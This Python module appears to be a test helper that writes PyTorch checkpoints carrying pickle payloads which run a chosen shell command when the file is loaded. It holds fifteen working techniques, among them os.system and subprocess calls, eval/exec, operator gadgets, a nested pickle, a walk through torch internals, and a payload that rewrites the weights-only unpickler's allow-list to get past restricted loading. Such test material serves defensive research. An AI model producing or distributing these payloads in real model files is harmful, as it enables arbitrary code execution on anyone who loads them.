"""Checkpoints that run a command when they are read without care.

An attack is a value that pickle restores by running a command. ``write_checkpoint`` puts it into a
checkpoint; nothing runs while the file is written.
"""

import pickle
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import torch


class Named:
    """A class or function, by the name under which pickle looks it up."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


class Call:
    """The result of calling a function (REDUCE)."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.parts, self.instruction = (function, args), pickle.REDUCE


class State:
    """An instance after its state was set (BUILD), which may update its ``__dict__``."""

    def __init__(self, instance: Any, state: Any) -> None:
        self.parts, self.instruction = (instance, state), pickle.BUILD


class Item:
    """A mapping after an entry was set (SETITEM)."""

    def __init__(self, mapping: Any, key: Any, value: Any) -> None:
        self.parts, self.instruction = (mapping, key, value), pickle.SETITEM


class Pickler(pickle._Pickler):
    """Pickler that writes the instructions of the classes above."""

    write: Callable[[bytes], Any]

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, Named):
            self.write(pickle.GLOBAL + f'{obj.module}\n{obj.name}\n'.encode())
        elif isinstance(obj, Call | State | Item):
            for part in obj.parts:
                self.save(part)
            self.write(obj.instruction)
        else:
            super().save(obj, save_persistent_id)


SYSTEM = Named('os', 'system')
IMPORT = Named('importlib', 'import_module')


def attribute(owner: Any, *names: str) -> Any:
    for name in names:
        owner = Call(Named('builtins', 'getattr'), owner, name)
    return owner


def system_call(command: str) -> Any:
    return Call(SYSTEM, command)


def blocked_name_of_system(command: str) -> Any:
    return Call(Named('posix', 'system'), command)


def subprocess_call(command: str) -> Any:
    return Call(Named('subprocess', 'call'), ['sh', '-c', command])


def eval_call(command: str) -> Any:
    return Call(Named('builtins', 'eval'), f'__import__("os").system({command!r})')


def exec_call(command: str) -> Any:
    return Call(Named('builtins', 'exec'), f'import os; os.system({command!r})')


def partial(command: str) -> Any:
    return Call(Call(Named('functools', 'partial'), SYSTEM, command))


def attrgetter(command: str) -> Any:
    return Call(Call(Call(Named('operator', 'attrgetter'), 'system'), Call(IMPORT, 'os')), command)


def methodcaller(command: str) -> Any:
    return Call(Call(Named('operator', 'methodcaller'), 'system', command), Call(IMPORT, 'os'))


def map_call(command: str) -> Any:
    return Call(Named('builtins', 'list'), Call(Named('builtins', 'map'), SYSTEM, [command]))


def pickle_in_a_pickle(command: str) -> Any:
    return Call(Named('pickle', 'loads'), b'cos\nsystem\n(X' + len(command).to_bytes(4, 'little')
                + command.encode() + b'tR.')  # fmt: skip


def getattr_of_a_module(command: str) -> Any:
    return Call(attribute(Call(IMPORT, 'os'), 'system'), command)


def getattr_walk_with_calls(command: str) -> Any:
    """From a function that checkpoints need to the modules of the process."""
    names = attribute(Named('torch._utils', '_rebuild_tensor_v2'), '__globals__')
    os_module = attribute(Call(attribute(names, 'get'), 'torch'), 'os')
    return Call(attribute(os_module, 'system'), command)


def getattr_walk_without_calls(command: str) -> Any:
    """The same for an unpickler that restricts calls: it is made to allow one more.

    BUILD turns the entries of a dict into attributes, which getattr reads.
    """
    names = attribute(Named('torch._utils', '_rebuild_tensor_v2'), '__globals__')
    torch_module = attribute(State(Call(Named('collections', 'OrderedDict')), names), 'torch')
    system = attribute(torch_module, 'os', 'system')
    allow = attribute({'file.system': system}, 'copy')
    unpickler = attribute(torch_module, '_weights_only_unpickler', '__dict__')
    changed = Item(unpickler, '_get_user_allowed_globals', allow)
    return [changed, Call(Named('file', 'system'), command)]


def methods_of_a_log(command: str) -> Any:
    """A log of mmengine with a method of the file's choice among its own."""
    own = Named('mmengine.logging.history_buffer', 'HistoryBuffer')
    methods = {'mean': attribute(own, 'mean'), 'min': Call(SYSTEM, command)}
    return State(Call(own), {'statistics_methods': methods})


def state_of_a_module(command: str) -> Any:
    """BUILD on a module, which sets its functions."""
    changed = State(Named('torch', 'os'), {'system_of_file': SYSTEM})
    return [changed, Call(Named('os', 'system_of_file'), command)]


ATTACKS: list[Callable[[str], Any]] = [
    system_call, blocked_name_of_system, subprocess_call, eval_call, exec_call, partial,
    attrgetter, methodcaller, map_call, pickle_in_a_pickle, getattr_of_a_module,
    getattr_walk_with_calls, getattr_walk_without_calls, methods_of_a_log, state_of_a_module,
]  # fmt: skip


def write_checkpoint(path: Path, attack: Any, checkpoint: dict | None = None) -> None:
    """Write a checkpoint that contains an attack beside its weights.

    Args:
        path: Path of the file.
        attack: What a function of ``ATTACKS`` returns.
        checkpoint: The other entries. Default: a state dict of one tensor.
    """
    content = checkpoint or {'state_dict': {'weight': torch.ones(1)}}
    module = SimpleNamespace(__name__='pickle', Pickler=Pickler)
    torch.save({**content, 'attack': attack}, path, pickle_module=module)
